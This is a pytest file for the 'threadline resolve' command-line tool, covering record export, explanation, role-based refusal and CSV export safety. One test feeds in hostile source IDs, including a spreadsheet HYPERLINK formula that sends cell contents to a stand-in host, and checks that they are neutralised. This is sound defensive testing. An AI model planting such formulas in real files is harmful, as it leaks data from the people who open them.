"""`threadline resolve run|export|explain`: what an analyst types, and what they are told."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from sqlalchemy import Engine
from typer.testing import CliRunner, Result

from tests.audit.helpers import make_user_row
from tests.factories import make_person
from tests.resolve.region import build_region
from threadline.cli.main import app
from threadline.errors import Forbidden
from threadline.model.security import Role
from threadline.storage.db import session_scope


def run(engine: Engine, *args: str) -> Result:
    return CliRunner().invoke(app, ["--db", engine.url.render_as_string(False), *args])


def test_run_export_and_explain(engine: Engine, tmp_path: Path) -> None:
    region = build_region(engine)
    with session_scope(engine) as session:
        make_user_row(session, "analyst@ersou", roles=[Role.ANALYST])
    result = run(engine, "resolve", "run", "--json")
    assert result.exit_code == 0, result.output
    summary = json.loads(result.stdout)
    assert summary["records"] == len(region.everyone)
    assert summary["people_with_several_records"] == 1

    out = tmp_path / "resolved.csv"
    result = run(engine, "resolve", "export", "--out", str(out))
    assert result.exit_code == 0, result.output
    told = " ".join(result.stdout.split())  # the console wraps long lines
    assert f"Wrote {len(region.everyone)} person records to {out}" in told
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(region.everyone)
    william = rows[0]["resolved_id"]  # the Norfolk record, the oldest
    held_by = sorted(row["owner"] for row in rows if row["resolved_id"] == william)
    assert held_by == ["essex", "norfolk", "suffolk"]

    norfolk, essex, _ = region.william
    result = run(engine, "resolve", "explain", str(norfolk), str(essex), "--as", "analyst@ersou")
    assert result.exit_code == 0, result.output
    assert "last run: one person" in " ".join(result.stdout.split())
    result = run(
        engine, "resolve", "explain", str(norfolk), str(essex), "--as", "analyst@ersou", "--json"
    )
    levels = {f["comparison"]: f["level"] for f in json.loads(result.stdout)["fields"]}
    assert levels["given_name"] == "Same canonical name (nickname)"


def test_a_force_officer_is_refused_with_one_line(engine: Engine, tmp_path: Path) -> None:
    build_region(engine)
    with session_scope(engine) as session:
        make_user_row(session, "officer@norfolk", roles=[Role.FRONTLINE])
    result = run(engine, "resolve", "export", "--out", str(tmp_path / "x.csv"), "--as",
                 "officer@norfolk")  # fmt: skip
    assert result.exit_code == 1
    assert isinstance(result.exception, Forbidden)
    assert "regional unit" in str(result.exception)


def test_the_export_neutralises_source_ids_a_spreadsheet_would_run(
    engine: Engine, tmp_path: Path
) -> None:
    """Issue 11 finding 9: every CSV Threadline writes, not only the audit export."""
    build_region(engine)
    hostile = ('=HYPERLINK("http://x.example/?"&A1)', "+SUM(1,2)", "@SUM(1)", "-2+3", "\tx")
    with session_scope(engine) as session:
        for number, source_id in enumerate(hostile):
            make_person(session, family_name=f"Formula{number}", source_id=source_id)
    out = tmp_path / "resolved.csv"
    result = run(engine, "resolve", "export", "--out", str(out))
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    with out.open(encoding="utf-8", newline="") as handle:
        cells = {row["source_id"] for row in csv.DictReader(handle)}
    for source_id in hostile:
        assert "'" + source_id in cells
        assert source_id not in cells
    assert all(line.startswith('"') for line in text.splitlines())  # every cell quoted
